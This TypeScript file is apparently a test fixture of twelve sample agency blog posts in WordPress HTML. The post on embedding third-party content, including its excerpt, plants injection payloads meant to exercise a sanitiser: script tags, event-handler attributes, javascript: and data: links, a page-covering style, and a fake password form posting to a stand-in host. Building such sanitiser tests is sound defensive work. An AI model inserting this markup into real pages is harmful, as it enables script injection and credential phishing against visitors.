/** A sample post. Texts are HTML as WordPress renders it; `%picture-name%` is replaced with the URL of a picture. */
export type SamplePost = {
  slug: string
  title: string
  /** Local time; the sample blog's time zone is UTC. */
  date: string
  excerpt: string
  /** Where an API client finds the cover: in `_embedded`, or only in `jetpack_featured_media_url`. */
  cover: 'embedded' | 'jetpack'
  alt: string
  content: string
}

export const samplePosts: SamplePost[] = [
  {
    slug: 'discovery-before-the-first-line-of-code',
    title: 'What happens in the two weeks before we write code',
    date: '2025-03-11T09:00:00',
    excerpt:
      '<p>Most late projects were late before anybody opened an editor. Here is what we do first, day by day, and what you hold in your hands afterwards.</p>',
    cover: 'embedded',
    alt: 'A plan of ten days in three parts: three days to watch, four to find the risk, three to cut; at the end, a price and a date',
    content: `
<p>When a software project runs late, people look at the last month. We have learned to look at the first two weeks. That is when a team decides what it is building, for whom, and how it will know that it has succeeded, or quietly doesn’t decide, and pays for it later.</p>
<h2 class="wp-block-heading">Days 1 to 3: watch the work</h2>
<p>We don’t begin with a list of features. We ask to sit beside the people who will use the product, and watch a normal morning. In a warehouse we once saw that every order was printed, walked across the hall and typed in again. Nobody had mentioned it, because to them it was not a problem; it was Tuesday.</p>
<p>At the end of the third day we write a single page: who does what, how often, and where it hurts. Everybody signs off on that page before we go on.</p>
<h2 class="wp-block-heading">Days 4 to 7: find the risk</h2>
<p>Every project has one or two things that could sink it. Usually they are not where you expect them:</p>
<ul>
<li>an older system whose export is “almost” documented;</li>
<li>a rule that only one person in accounting knows;</li>
<li>a promise about response times that nobody has measured;</li>
<li>data that three departments each believe they own.</li>
</ul>
<p>We take the worst of these and build a throwaway experiment around it. It has no design and no tests, and we delete it afterwards. Its only product is an answer.</p>
<blockquote class="wp-block-quote"><p>A prototype should embarrass you a little. If it doesn’t, you have spent too long on it.</p></blockquote>
<h2 class="wp-block-heading">Days 8 to 10: cut</h2>
<p>Now we write the plan, and then we make it smaller. For each item we ask what would happen if it came three months later. If the honest answer is “nothing much”, it moves. What remains is a first release that one team can finish and that is useful by itself.</p>
<h3 class="wp-block-heading">What you get</h3>
<ol>
<li>The one-page description of the work as it is today.</li>
<li>A clickable outline of the first release, tried by at least five of its future users.</li>
<li>A list of risks, each with what we found out about it.</li>
<li>A price and a date, with the assumptions they stand on.</li>
</ol>
<p>You can take these documents to anyone. Two clients did, and we think that is fine: a good plan is worth having even when somebody else carries it out.</p>
`,
  },
  {
    slug: 'language-models-in-customer-support',
    title: 'Language models in customer support: what works, what doesn&#8217;t',
    date: '2025-04-08T08:30:00',
    excerpt:
      '<p>Three support desks, eighteen months, and one lesson that surprised us: the best use of a language model was not answering customers&#8217; questions.</p>',
    cover: 'embedded',
    alt: 'Test results for three groups of questions; one of them got worse, so the change is not released',
    content: `
<p>Over eighteen months we added language models to three support desks. One sells garden furniture, one runs a booking platform, one maintains lifts. They have little in common, and yet the same things worked, and the same things failed.</p>
<h2>What worked</h2>
<h3>Sorting, not answering</h3>
<p>The quiet winner was triage. A model reads each incoming message, names the topic, the product and the urgency, and pulls out order numbers and dates. A person then sees a tidy queue instead of a pile. Average time to first reply fell by 41% at the booking platform, although every reply was still written by a person.</p>
<h3>Drafts with sources</h3>
<p>Next came drafts. The model proposes a reply and shows the three help-centre paragraphs it relied on. Staff accept about half of the drafts unchanged. The sources matter more than the prose: they turn checking into reading two paragraphs instead of searching for ten minutes.</p>
<h2>What didn’t</h2>
<p>Letting the model talk to customers without supervision was a disappointment everywhere, for reasons that had nothing to do with grammar:</p>
<ul>
<li>It promised refunds that the policy didn’t allow.</li>
<li>It never said “I don’t know” unless we forced it to.</li>
<li>Customers who noticed were angrier than customers who had waited.</li>
</ul>
<h2>How we measure it</h2>
<p>We keep a file of real questions with known good answers and run every change of prompt or model against it. The rule is simple: no change goes live that makes any group of questions worse.</p>
<pre class="wp-block-code"><code>$ npm run evaluate -- --set refunds

refunds        118 / 120   (before: 116)
delivery        97 / 100   (before:  97)
warranty        58 /  60   (before:  60)  &lt;-- worse, not released</code></pre>
<p>The file has 280 questions today. Collecting them was dull, took a week, and has been the best investment of the whole project.</p>
<blockquote><p>We thought we were buying a robot. What we got is a very good clerk who never tires of sorting the post.</p><cite>Head of support, booking platform</cite></blockquote>
<p>Our advice is to start with triage, add drafts after a month, and let the machine speak for you only where being wrong costs nothing.</p>
`,
  },
  {
    slug: 'spreadsheet-to-crm',
    title: 'From spreadsheet to CRM &amp; back: a migration diary',
    date: '2025-05-20T07:45:00',
    excerpt:
      '<p>Eleven years of customer data in one workbook, 43 columns, four colors with meaning. A diary of how it became a system, and of the part that stayed a spreadsheet.</p>',
    cover: 'embedded',
    alt: 'A spreadsheet with colored cells beside five tables: companies, people, tasks, notes and deals, each with its number of rows',
    content: `
<p>The workbook was called <em>Customers FINAL (2).xlsx</em>. It had 43 columns, 9,612 rows and four background colors. Yellow meant “call again”. Nobody remembered what orange meant, yet nobody dared to remove it.</p>
<h2 class="wp-block-heading">Week 1: take it seriously</h2>
<p>It is tempting to laugh at such files. Don’t. A spreadsheet that has survived for eleven years holds the most honest description of a business that exists. Every odd column was added by somebody who needed it on a busy day. We went through all 43 with the people who fill them in, and wrote down three things for each: who writes it, who reads it, and what they would do without it.</p>
<p>Seventeen columns had no reader. Six turned out to be the same fact in different spellings.</p>
<h2 class="wp-block-heading">Week 3: the shape underneath</h2>
<p>What looked like one table was five. Once they were apart, most of the confusion disappeared by itself:</p>
<figure class="wp-block-table"><table>
<thead><tr><th>What it was</th><th>What it became</th><th>Rows</th></tr></thead>
<tbody>
<tr><td>Columns A to L</td><td>Companies</td><td>2,318</td></tr>
<tr><td>Columns M to R</td><td>People</td><td>4,077</td></tr>
<tr><td>Colors, columns S to Z</td><td>Tasks with a date and an owner</td><td>611</td></tr>
<tr><td>Cell comments</td><td>Notes</td><td>7,940</td></tr>
<tr><td>Columns AA to AQ</td><td>Deals</td><td>1,204</td></tr>
</tbody>
</table><figcaption class="wp-element-caption">One sheet, five tables</figcaption></figure>
<h2 class="wp-block-heading">Week 6: run both</h2>
<p>For two weeks the sales team worked in the new system while a nightly job wrote the old workbook from it. Anyone who felt lost could open the file they knew. On the first day eleven people did. On the tenth day it was nobody, and we switched the job off without announcing it.</p>
<h2 class="wp-block-heading">What stayed a spreadsheet</h2>
<p>The price calculator did. It changes every month, one person owns it, and she is faster in it than any form could make her. The CRM reads its result through a small import, and that is enough. Not everything that can be a system should become one.</p>
<p>And orange? It meant “pays in cash”. The owner’s father remembered.</p>
`,
  },
  {
    slug: 'fast-pages-are-a-feature',
    title: 'Fast pages are a feature. Treat them like one.',
    date: '2025-06-17T10:15:00',
    excerpt:
      '<p>Speed isn&#8217;t what you sprinkle on at the end. Here is the budget that we put into every web contract, and the four habits that keep it.</p>',
    cover: 'embedded',
    alt: 'Five moments of a page that loads, complete after 1.4 seconds, above the requests it made',
    content: `
<p>Nobody ever asked us for a slow website. And still most sites become slow, one reasonable decision at a time: a chat bubble here, a carousel there, a second analytics script because marketing changed tools. Each costs a tenth of a second. Ten of them cost you the visitor on the train.</p>
<h2>A budget, in writing</h2>
<p>We treat speed as we treat money: with a budget that somebody signs. This is the one in our current contracts, measured on a mid-range phone over a 4G connection:</p>
<ul>
<li>The largest element is visible within <strong>2.0 seconds</strong>.</li>
<li>Nothing moves by itself after that.</li>
<li>A tap shows a reaction within <strong>100 milliseconds</strong>.</li>
<li>The page ships at most <strong>170 KB</strong> of script.</li>
</ul>
<p>Anyone who wants to add something has to say what goes. That single rule changes the conversation from taste to trade.</p>
<h2>Four habits</h2>
<h3>1. Render early, hydrate late</h3>
<p>Most of a page is text and pictures. Send those as HTML and wake up only what people touch.</p>
<h3>2. Give pictures their size</h3>
<pre><code class="language-html">&lt;img src="team.avif" width="1200" height="675"
     loading="lazy" decoding="async" alt="Our team at the workshop"&gt;</code></pre>
<p>Width and height let the browser reserve the place. It is the cheapest fix for jumping layouts, and the one that is forgotten most often.</p>
<h3>3. Own your fonts</h3>
<p>Two files, served from your own domain, with a fallback that has similar proportions. A third weight has to be argued for.</p>
<h3>4. Measure in the build</h3>
<p>A test that fails is worth ten dashboards. Our pipeline loads the five most visited pages on a throttled phone profile and stops the release when a number is over budget.</p>
<blockquote><p>Performance work that isn’t guarded by a test is a diet without scales.</p></blockquote>
<h2>What it bought</h2>
<p>A furniture shop that we moved to this budget last autumn saw 22% more visitors reach the second page. No new design, no new copy, no campaign. The same shop, a second and a half sooner.</p>
`,
  },
  {
    slug: 'native-or-cross-platform',
    title: 'Native or cross-platform? Ask these five questions first',
    date: '2025-07-22T09:20:00',
    excerpt:
      '<p>The technology debate is loud. The decision itself is quieter, and usually hangs on five questions about your business.</p>',
    cover: 'jetpack',
    alt: 'Three questions, each leading to an answer: native for five projects, cross-platform for nine, a web app for four',
    content: `
<p>“Should we build native or cross-platform?” is usually the second question in a first meeting about an app, right after the price. We have shipped both, we like both, and we answer with five questions of our own.</p>
<h2>1. How close to the device do you live?</h2>
<p>An app that talks to a heart-rate belt, edits video or draws augmented reality spends its days in the parts of the phone that change every autumn. Native pays off there. An app that shows lists, forms and maps does not need that closeness.</p>
<h2>2. Who will look after it in three years?</h2>
<p>Two native apps need two kinds of people. If your own team will take over, count the developers you have, not the ones you would like to hire.</p>
<h2>3. Do both platforms get the same product?</h2>
<p>If your drivers all carry the Android phones that the company bought, you don’t have two platforms. Build one app, and build it well.</p>
<h2>4. How often does it change?</h2>
<p>Weekly experiments are cheaper in one codebase. A product that changes twice a year won’t notice the difference.</p>
<h2>5. Does it have to be an app at all?</h2>
<p>This is the question we ask most carefully, because the answer sometimes loses us the bigger project. For the following, a good web app is enough:</p>
<ul>
<li>it is used less than once a week;</li>
<li>it works only with a connection anyway;</li>
<li>people find it through a link, not through a store.</li>
</ul>
<h2>The answers in one table</h2>
<table>
<thead><tr><th>Your situation</th><th>We would start with</th></tr></thead>
<tbody>
<tr><td>Sensors, media, background work</td><td>Native</td></tr>
<tr><td>Forms and content on both platforms</td><td>Cross-platform</td></tr>
<tr><td>A single managed kind of device</td><td>Native, for that one</td></tr>
<tr><td>Occasional use, found by link</td><td>Web app</td></tr>
</tbody>
</table>
<p>There are exceptions to each row, and we have built most of them. But in the last twenty projects this table agreed with the final decision eighteen times.</p>
`,
  },
  {
    slug: 'deploy-on-friday',
    title: 'Yes, we deploy on Fridays',
    date: '2025-08-29T15:00:00',
    excerpt:
      '<p>A rule against Friday releases is a rule against trusting your own pipeline. This is what has to be true before you can drop it.</p>',
    cover: 'embedded',
    alt: 'The releases of a week as dots by weekday and hour; one on Friday says: live at 3:10 pm',
    content: `
<p>It is Friday, ten past three, and a new version of a client’s ordering system has just gone live. Nobody held their breath. Somebody got a coffee.</p>
<p>This isn’t bravery. A ban on Friday releases says: we expect to break things, and we need the weekend free of it. That is an honest thing to say. We would rather fix the expectation.</p>
<h2>What has to be true first</h2>
<h3>Small changes</h3>
<p>Our median release contains four commits. When something does go wrong, there are four suspects, and the author of each still remembers what they meant.</p>
<h3>One button back</h3>
<p>Rolling back takes under a minute and needs no developer. We practice it every month on a Tuesday, in production, with the client watching.</p>
<h3>Database changes in two steps</h3>
<p>Old and new code have to run side by side, so a column is never renamed in place:</p>
<ol>
<li>Add the new column and write to both.</li>
<li>Copy what is there, in batches, while the site is running.</li>
<li>Read from the new column.</li>
<li>A week later, remove the old one.</li>
</ol>
<pre><code>-- step 2, run until it reports 0 rows
UPDATE orders SET placed_on = placed_at::date
WHERE id IN (
  SELECT id FROM orders
  WHERE placed_on IS NULL
  ORDER BY id LIMIT 1000
);</code></pre>
<h3>An alarm that means something</h3>
<p>We alert on what customers feel: orders per minute, failed sign-ins, the slowest 5% of pages. Processor load wakes nobody up.</p>
<h2>And when it still breaks?</h2>
<p>It did, in May. An invoice template lost its tax number on a Friday afternoon. The alarm came after six minutes, the roll-back took forty seconds, and eleven invoices had to be sent again. On Monday we added the test that had been missing. The whole incident cost less than one week of frozen releases.</p>
<blockquote><p>Release when it’s ready. If that scares you, the calendar isn’t what needs work.</p></blockquote>
`,
  },
  {
    slug: 'embedding-third-party-content',
    title: 'Embedding other people&#8217;s content without getting burned',
    date: '2025-09-16T11:00:00',
    excerpt:
      '<p>Widgets, videos, forms: every embed is a guest with a key to your house. <img src="x" onerror="window.hijacked=true">What we let in, and how.</p>',
    cover: 'embedded',
    alt: 'A comparison of markup: a script, a frame and an event handler are removed, a picture of our own is added',
    content: `
<p>Every embed is a guest. Some are charming, some stay too long, and all of them, unless you are careful, have a key to your house. This post is itself full of guests that a careful site doesn’t let in: if you read it as plain text with headings, somebody did their work.</p>
<script>window.hijacked = true; document.title = 'Hijacked'</script>
<h2 onclick="window.hijacked=true">What an embed can do</h2>
<p>A script that you include runs with all the rights of your own page. It can read what visitors type, send it anywhere, and change what they see. It doesn’t have to be malicious today; it is enough that its domain is sold tomorrow.</p>
<style>body { display: none !important } h1 { color: red; font-size: 200px }</style>
<ul>
<li>A video player reports who watched, for how long, from where.</li>
<li>A comment box loads nine further scripts that you never chose.</li>
<li>A “free” weather widget once mined coins on a town hall’s website.</li>
</ul>
<p><img src="x" onerror="window.hijacked=true" alt="A picture that never loads"></p>
<iframe src="https://embeds.example.com/widget" width="600" height="400" allow="camera; microphone"></iframe>
<h2>Rules that we follow</h2>
<p>First: <a href="javascript:window.hijacked=true">links stay links</a>, and never become code. Second: pictures are copied to our own storage. Third: whatever must run, runs in a frame on another origin, without access to ours.</p>
<svg width="10" height="10" onload="window.hijacked=true"><circle r="5"></circle></svg>
<form action="https://collect.example.com/login" method="post"><label>Session expired. Password: <input type="password" name="password"></label><button>Sign in</button></form>
<p style="position:fixed;inset:0;background:#fff;z-index:99999">Fourth: text that comes from outside may not bring its own styles, since a sheet of white over the whole page is an attack as well.</p>
<object data="https://embeds.example.com/player.swf"></object>
<h2>The short list</h2>
<ol>
<li>Allow the elements you know; drop the rest.</li>
<li>Allow <code>http</code>, <code>https</code> and <code>mailto</code> in links; nothing else, however it is spelled (<a href="JaVaScRiPt&#58;alert(1)">like this</a>, or <a href="data:text/html,<script>alert(1)</script>">this</a>).</li>
<li>Clean when you read, before you store, and again when you are in doubt.</li>
<li>Send a content security policy, so that one mistake isn’t the end.</li>
</ol>
<blockquote><p>Trust the author, check the markup.</p></blockquote>
<p>For a reader none of this is visible, which is the point. The page is simply calm, and stays that way when the guest misbehaves.</p>
`,
  },
  {
    slug: 'forecasts',
    title: 'Forecasts',
    date: '2025-10-07T06:50:00',
    excerpt: '<p>A good forecast has three parts, and the number is the least important one.</p>',
    cover: 'embedded',
    alt: 'The number 420 above a bell curve from 380 to 470 rolls, and the reason: market day, and it will be warm',
    content: `
<p>A regional bakery chain asked us for “an AI that tells us how many rolls to bake”. Eight months later it has one. Waste is down by 31%, and the model behind it is so simple that we were a little ashamed to present it.</p>
<h2>Begin with the dumb one</h2>
<p>Before any machine learning we wrote the dumbest forecast that we could defend: the same weekday last week, corrected for public holidays. It took an afternoon. It was already better than the order sheets of nine in fourteen shops.</p>
<p>Now every later idea had something to beat. Two months of clever models beat it by four percentage points. Adding the weather forecast gave six more. That was all.</p>
<h2>A forecast has three parts</h2>
<ol>
<li><strong>The number.</strong> 420 rolls.</li>
<li><strong>The doubt.</strong> Between 380 and 470, nine times out of ten.</li>
<li><strong>The reason.</strong> “Market day, and it will be warm.”</li>
</ol>
<p>We showed the number alone in the first version, and shop managers ignored it. When we added the doubt and the reason, they began to use it, and to correct it. Their corrections turned out to be excellent data: one manager always knew when the school was on a trip.</p>
<blockquote><p>The old sheet told me what to bake. This one tells me what it thinks, and then I decide.</p><cite>Shop manager, eleven years behind the counter</cite></blockquote>
<h2>What the error costs</h2>
<p>Being wrong isn’t symmetrical. A roll too many costs eleven cents. A roll too few costs a customer who drives on to the supermarket and buys everything else there as well. So the system doesn’t aim at the middle of its range, but a little above it, and how far above is a business decision, set on a slider in the office, not in the code.</p>
<h2>Where to look for your own</h2>
<p>Forecasts pay where a decision is made often, the outcome is known soon, and somebody keeps records. Staffing, stock, energy, delivery times. If the outcome is known only after a year, put the money elsewhere.</p>
`,
  },
  {
    slug: 'accessible-by-default-lessons-from-rebuilding-a-public-service-portal',
    title:
      'Accessible by default: eleven lessons from rebuilding a public service portal that four hundred thousand people depend on, most of them on a phone, many of them in a hurry, and some of them without ever seeing the screen at all',
    date: '2025-11-18T09:40:00',
    excerpt:
      '<p>We rebuilt a portal for parking permits, waste collection and school places. Accessibility wasn&#8217;t a phase of the project; it was how we found out whether the thing worked.</p>',
    cover: 'embedded',
    alt: 'A field for a license plate with a thick focus ring and a plain error message, and below it what a screen reader says',
    content: `
<p>A city of four hundred thousand asked us to rebuild the place where people apply for parking permits, waste collection and school places. The old one passed its audit every year. It was also the most common reason to call the town hall.</p>
<h2>Before the design</h2>
<ol>
<li><strong>Invite the people first.</strong> Six residents who use screen readers, magnifiers or a single switch tested every second week, and were paid for it.</li>
<li><strong>Write plainly.</strong> “We couldn’t find that address” helps everybody. “Validation error in field 7” helps nobody.</li>
<li><strong>Ask for less.</strong> We removed 31 of 78 questions. The most accessible field is the one that isn’t there.</li>
</ol>
<h2>In the design</h2>
<ol start="4">
<li><strong>One thing a page.</strong> Long forms became short steps, with a way back that keeps what was typed.</li>
<li><strong>Contrast is not a mood.</strong> Text reaches 4.5:1 on every surface, pale grey hints included.</li>
<li><strong>Show the focus.</strong> A thick ring that designers disliked for a week and then stopped noticing.</li>
</ol>
<figure class="wp-block-image size-large"><img src="%fewer-questions%" alt="A square for each of the old form’s 78 questions; 31 are crossed out" width="1280" height="720" /><figcaption class="wp-element-caption">What was asked before, and what still is</figcaption></figure>
<h2>In the code</h2>
<ol start="7">
<li><strong>Use the element that exists.</strong> A button is a button. It brings the keyboard, the name and the role with it, free of charge.</li>
<li><strong>Announce what changes.</strong> If a price is recalculated, somebody who can’t see it has to hear it.</li>
<li><strong>Errors stay beside their field</strong>, and at the top there is a list with links to each.</li>
</ol>
<pre><code>&lt;label for="plate"&gt;License plate&lt;/label&gt;
&lt;input id="plate" aria-describedby="plate-error" aria-invalid="true"&gt;
&lt;p id="plate-error"&gt;Enter a plate such as AB 123 CD.&lt;/p&gt;</code></pre>
<h2>Afterwards</h2>
<ol start="10">
<li><strong>Let machines find what machines can find.</strong> Automated checks run on every change. They find about a third of the problems, at once and for nothing.</li>
<li><strong>Keep the phone number visible.</strong> A service that works for everyone still has people who would rather talk.</li>
</ol>
<p>Calls about permits fell by 58%. The audit still passes, by the way. It just isn’t the reason any more.</p>
`,
  },
  {
    slug: 'cloud-bill-in-half',
    title: 'How we cut a cloud bill in half without touching the code',
    date: '2026-01-20T08:00:00',
    excerpt:
      '<p>Four findings, one afternoon of reading invoices, and &#8364;6,400 a month that nobody misses.</p>',
    cover: 'embedded',
    alt: 'A chart that steps down from €12,900 to €6,430 by savings on nights, logs, traffic and disks',
    content: `
<p>The bill was €12,900 a month and growing by 4%. The client suspected the database. It wasn’t the database. It hardly ever is.</p>
<h2>Read the invoice like a detective</h2>
<p>We exported three months of line items, sorted them by cost, and asked of each of the first forty: what is it, who needs it, and what happens if it goes away tonight? That took one afternoon and two people. Four findings made up almost all of the savings.</p>
<table>
<thead><tr><th>Finding</th><th>Before</th><th>After</th></tr></thead>
<tbody>
<tr><td>Test environments that ran at night and on weekends</td><td>€3,100</td><td>€900</td></tr>
<tr><td>Logs kept for ever, in the fastest storage</td><td>€2,250</td><td>€310</td></tr>
<tr><td>Traffic between zones that could have stayed in one</td><td>€1,480</td><td>€220</td></tr>
<tr><td>Disks of machines that no longer exist</td><td>€1,010</td><td>€0</td></tr>
</tbody>
</table>
<h2>Switch off the lights</h2>
<p>Test environments follow office hours now. A developer who works late starts one with a command and it stops by itself at midnight:</p>
<pre><code># every evening at eight, Monday to Friday
0 20 * * 1-5  envctl stop --group=test --unless-tagged keep</code></pre>
<h2>Keep logs on purpose</h2>
<p>We asked when somebody had last read a log older than two weeks. The answer was “the audit, in March”. So two weeks stay where they can be searched, a year lies compressed in cold storage, and the rest is deleted. That is cheaper, and the privacy officer was the happiest person in the room.</p>
<h2>What we left alone</h2>
<ul>
<li>The database. It is the right size, and a smaller one would be slow on Mondays.</li>
<li>The second region. It has never been needed, and that isn’t an argument.</li>
<li>Long commitments. Prices fall faster than the discount for three years.</li>
</ul>
<p>Total: €6,470 a month less, no release, no downtime. The review takes place every quarter now, and the last one found forty euros. That is how it should be.</p>
`,
  },
  {
    slug: 'api-that-partners-like',
    title: 'An API that partners actually like: notes from a SaaS integration',
    date: '2026-02-24T10:05:00',
    excerpt:
      '<p>A logistics SaaS opened its system to forty partners. What made integration take two days instead of two months.</p>',
    cover: 'embedded',
    alt: 'Messages between a partner and an API: a request is lost and sent again with the same key, and one shipment is made',
    content: `
<p>A maker of logistics software came to us with a familiar complaint: it had an API, it had documentation, and still every new partner needed two months and a standing call. Today the median is two days. None of the changes were spectacular.</p>
<h2>Start with the first five minutes</h2>
<p>We watched four developers from partner companies try to make their first call. None managed it within an hour. The reasons were all outside of the API: a key that had to be requested by mail, an example in a language they didn’t use, a test system with no data in it.</p>
<p>Now the sign-up page shows a working key and this:</p>
<pre><code>curl https://api.freight.example/v1/shipments \\
  -H "Authorization: Bearer test_8f2c..." \\
  -d reference="My first shipment" -d weight_kg=12</code></pre>
<p>Paste, press enter, and a shipment appears in a sandbox that already has customers, depots and a truck that is late.</p>
<h2>Errors are the real documentation</h2>
<p>People read a guide once, and error messages every day. Each of ours says what is wrong, where, and what to do next:</p>
<pre><code>{
  "error": "weight_required",
  "field": "parcels[0].weight_kg",
  "message": "Every parcel needs a weight. Use 0.1 if it is a letter.",
  "docs": "https://docs.freight.example/errors/weight_required"
}</code></pre>
<h2>Promise what you can keep</h2>
<ul>
<li><strong>Sending twice is safe.</strong> Every write takes a key of the caller’s choice; a repeated key returns the first answer.</li>
<li><strong>Fields are added, never changed.</strong> A new meaning gets a new name.</li>
<li><strong>Webhooks are retried</strong> for three days, signed, and can be replayed from the dashboard.</li>
<li><strong>Limits are in the headers</strong>, before you hit them.</li>
</ul>
<figure class="wp-block-image"><img src="%partner-funnel%" alt="Of 214 partners who signed up, 186 made a first call, 61 had a real key and 54 were live within a week" width="1280" height="720" /></figure>
<h2>Measure like a shop</h2>
<p>The team now looks at its API as at a checkout: how many sign up, how many make a first call, how many are live after a week? The biggest drop was between the test key and the real one, because of a contract that had to be signed on paper. Removing it was the most effective improvement of the year, and not a single line of code.</p>
`,
  },
  {
    slug: 'handing-over-software',
    title: 'The last 10%: handing software over so that you don&#8217;t need us',
    date: '2026-04-14T09:10:00',
    excerpt:
      '<p>Our favorite kind of client calls because they want something new, not because something broke. That takes a proper farewell.</p>',
    cover: 'embedded',
    alt: 'Six bars from four hours down to eleven minutes: the time from an empty laptop to a running system',
    content: `
<p>There is a way to keep clients for ever: be the only ones who understand their system. We have inherited a few of those, and each began with a month of archaeology. We’d rather you came back because you want to.</p>
<h2>What a handover contains</h2>
<p>It isn’t a folder of documents in the final week. It grows from the first day, and at the end we check that it is whole:</p>
<ul>
<li>The code, its history, and the right to all of it.</li>
<li>One command that starts everything on a new laptop.</li>
<li>A page for each decision that a newcomer would question: what we chose, what else there was, and why.</li>
<li>Accounts and keys in your name, with ours removed on a date that is in the calendar.</li>
<li>A runbook for the ten things that will happen at night.</li>
</ul>
<h2>The stranger test</h2>
<p>In the last sprint a developer who has never seen the project gets a laptop, the repository and a small task. We sit beside them and say nothing. Every question they ask is a gap, and we close it before the next day.</p>
<blockquote class="wp-block-quote"><p>If it takes a call to explain, it isn’t handed over yet.</p></blockquote>
<p>The first time we did this, the stranger needed four hours to get to a running system. Our best so far is eleven minutes, nine of them spent waiting for a download.</p>
<h2>A runbook people read</h2>
<p>At three in the morning nobody reads prose. Each entry has the same four lines:</p>
<pre><code>WHAT YOU SEE   Orders stop, page shows error E-107
WHAT IT MEANS  The payment provider doesn't answer
WHAT TO DO     Settings &gt; Payments &gt; "Pause", orders are kept
WHEN TO CALL   After 60 minutes, or if E-108 appears</code></pre>
<h2>And then?</h2>
<p>For thirty days we stay within reach at no charge. After that there is a support plan for those who want one, and for those who don’t, a clean goodbye. Two thirds of our clients have come back with a new idea within a year. We believe the two facts are related.</p>
`,
  },
]
